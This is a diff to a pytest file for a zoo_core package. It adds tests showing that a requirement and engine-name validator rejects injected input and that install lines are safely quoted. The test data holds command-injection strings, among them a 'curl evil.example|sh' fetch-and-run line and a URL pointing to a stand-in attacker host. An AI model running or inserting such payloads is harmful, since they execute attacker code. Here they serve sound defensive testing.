@@ -8,7 +8,14 @@ from pathlib import Path
 import importlib_metadata
 import pytest
 
-from zoo_core.requirements import core_metadata, engine_package, install_line, missing_requirements
+from zoo_core.requirements import (
+    check_engine,
+    check_requirement,
+    core_metadata,
+    engine_package,
+    install_line,
+    missing_requirements,
+)
 
 
 @pytest.mark.parametrize(
@@ -60,7 +67,8 @@ def test_missing_ones_are_sorted_without_repetition() -> None:
         (["zoo-mxnet"], "pip install zoo-mxnet"),
         (["zoo-pytorch>=0.1", "acme"], 'pip install acme "zoo-pytorch>=0.1"'),
         (["zoo-core[vision]"], 'pip install "zoo-core[vision]"'),
-        (["a; python_version > '3'"], "pip install \"a; python_version > '3'\""),
+        (["a!=1.0"], "pip install 'a!=1.0'"),
+        (["$(touch /tmp/x)", 'x"; ls #'], """pip install '$(touch /tmp/x)' 'x"; ls #'"""),
         (["b", "b"], "pip install b"),
     ],
 )
@@ -84,3 +92,24 @@ def test_the_header_read_here_is_the_one_that_the_standard_reader_gives() -> Non
     assert found["Name"] == [distribution.metadata["Name"]]
     assert found["Version"] == [distribution.version]
     assert sorted(found["Requires-Dist"]) == sorted(distribution.requires or [])
+
+
+@pytest.mark.parametrize(
+    "text", ["$(touch /tmp/x)", 'x"; curl evil.example|sh #', "x @ https://evil.example/x.zip", "", "-r evil.txt", "a b"]
+)
+def test_what_is_no_requirement_never_becomes_one(text: str) -> None:
+    with pytest.raises(ValueError, match="is no requirement such as|names an address"):
+        check_requirement(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["acme", "acme-nets>=1.2,<2", "acme[extra]==1.0", "a; python_version > '3'", "acme.nets ~= 1.0"]
+)
+def test_a_requirement_is_taken_as_it_stands(text: str) -> None:
+    assert check_requirement(text) == text
+
+
+@pytest.mark.parametrize("name", ["$(x)", "a b", "", "-e", "x" * 65])
+def test_an_engine_has_a_plain_name(name: str) -> None:
+    with pytest.raises(ValueError, match="is no engine's name"):
+        check_engine(name)
